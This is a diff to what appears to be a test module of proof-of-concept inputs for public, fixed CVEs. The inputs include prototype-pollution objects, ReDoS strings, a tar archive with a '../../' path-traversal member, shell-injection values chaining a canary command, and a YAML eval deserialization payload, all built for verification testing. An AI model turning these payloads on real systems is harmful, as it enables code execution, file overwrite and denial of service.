@@ -5,7 +5,9 @@ All of these flaws are public and fixed. What a proof shows is in the advisory o
 
 from __future__ import annotations
 
+import io
 import json
+import tarfile
 from importlib import resources
 from typing import Final, NamedTuple
 
@@ -32,6 +34,16 @@ def _json(value: object) -> bytes:
 def _grown(largest: int, pump: str, **parts: str) -> bytes:
     """A proof for the complexity oracle."""
     return _json({"largest": largest, "pump": pump, **parts})
+
+
+def _tar(name: str) -> bytes:
+    """An archive whose one member has that name."""
+    archive = io.BytesIO()
+    with tarfile.open(fileobj=archive, mode="w", format=tarfile.USTAR_FORMAT) as members:
+        member = tarfile.TarInfo(name)
+        member.size = len(b"text")
+        members.addfile(member, io.BytesIO(b"text"))
+    return archive.getvalue()
 
 
 _OWN: Final = {"__proto__": {"polluted": "yes"}}
@@ -73,7 +85,7 @@ PROOFS: Final = (
     Proof("CVE-2020-8116", "dot-prop", "set", _json({"path": "__proto__.polluted"})),
     Proof("CVE-2020-7788", "ini", "parse", b"[__proto__]\npolluted = yes\n"),
     Proof("CVE-2021-23343", "path-parse", "posix", _grown(100_000, "/", prefix="a", suffix="a\n")),
-    Proof("CVE-2021-33623", "trim-newlines", "end", _grown(100_000, "\n", suffix="a")),
+    Proof("CVE-2021-33623", "trim-newlines", "end", _grown(50_000, "\n", suffix="a")),
     Proof("CVE-2018-3750", "deep-extend", "extend", _json(_OWN)),
     Proof("CVE-2023-26115", "word-wrap", "wrap", _grown(80_000, " ", prefix="a", suffix="a")),
     Proof("CVE-2022-25883", "semver", "range", _grown(400, " ", prefix=">", suffix="a")),
@@ -149,5 +161,26 @@ PROOFS: Final = (
         "macaddress",
         "way-0",
         _json({"call": "one", "args": ["$(clearhold-canary)", {"$callback": 1}]}),
+    ),
+    Proof("CVE-2019-10746", "mixin-deep", "way-1", _json(_BY_CONSTRUCTOR)),
+    Proof("CVE-2019-5414", "kill-port", "way-0", b"23;clearhold-canary"),
+    Proof("CVE-2023-40582", "find-exec", "way-0", b"a; clearhold-canary"),
+    Proof("CVE-2020-12265", "decompress", "way-8", _tar("../../escaped.txt")),
+    Proof(
+        "CVE-2017-16615",
+        "mlalchemy",
+        "way-0",
+        _json({"call": "parse_yaml_query", "args": [f'!!python/object/apply:eval ["{_CALLS}"]']}),
+    ),
+    Proof(
+        "CVE-2023-26112",
+        "configobj",
+        "way-0",
+        _grown(
+            18_000,
+            "(",
+            prefix='{"call": "Validator", "args": [], "then": [{"call": "check", "args": ["a',
+            suffix='", "a"]}]}',
+        ),
     ),
 )
